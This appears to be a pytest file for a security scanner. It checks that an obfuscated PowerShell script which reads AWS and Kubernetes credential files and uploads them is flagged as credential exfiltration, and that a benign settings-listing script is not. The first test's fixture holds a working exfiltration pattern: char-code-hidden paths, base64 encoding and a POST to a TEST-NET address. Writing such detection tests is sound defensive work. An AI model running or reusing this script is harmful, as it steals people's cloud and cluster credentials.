"""PowerShell: a hashtable walked by its own keys (``foreach ($k in $t.Keys) { … $t[$k] … }``) or
values (``$t.Values``) reaches each entry, so a path kept in a table (char codes included) is followed
to what reads and sends it. Hosts are TEST-NET or reserved names."""

from __future__ import annotations

from pathlib import Path

import pytest

from behaviour_files import scan_errors, scan_findings


def _codes(text: str) -> str:
    return ",".join(str(ord(c)) for c in text)


_CLOUD = _codes(".aws\\credentials")
_KUBE = _codes(".kube\\config")


@pytest.mark.parametrize(
    "walk",
    [
        "foreach ($name in $stores.Keys) {\n  $src = Join-Path $HOME $stores[$name]\n",
        "foreach ($rel in $stores.Values) {\n  $src = Join-Path $HOME $rel\n",
    ],
)
def test_a_table_of_stores_walked_and_uploaded_is_an_error(tmp_path: Path, walk: str) -> None:
    script = (
        "function S([int[]]$n) { -join ($n | ForEach-Object { [char]$_ }) }\n"
        f"$stores = @{{\n  cloud = S {_CLOUD}\n  kube = S {_KUBE}\n}}\n"
        f"{walk}"
        "  if (Test-Path $src) {\n"
        "    $b = [Convert]::ToBase64String([IO.File]::ReadAllBytes($src))\n"
        "    Invoke-RestMethod -Uri 'https://198.51.100.61/c' -Method Post -Body $b\n  }\n}\n"
    )
    errors = scan_errors(tmp_path / "s", {"scripts/Sync-Profile.ps1": script})
    assert any(rule == "CREDENTIAL_EXFILTRATION" for rule, _, _ in errors)


def test_a_table_of_settings_files_walked_and_printed_is_no_error(tmp_path: Path) -> None:
    script = (
        "$files = @{\n  editor = '.vscode\\settings.json'\n  git = '.gitconfig'\n}\n"
        "foreach ($k in $files.Keys) {\n  $p = Join-Path $HOME $files[$k]\n"
        '  if (Test-Path $p) { Write-Host "$k -> $p" }\n}\n'
    )
    found = scan_findings(tmp_path / "s", {"scripts/Show-Settings.ps1": script})
    assert not [f for f in found if f.severity.value == "error"]
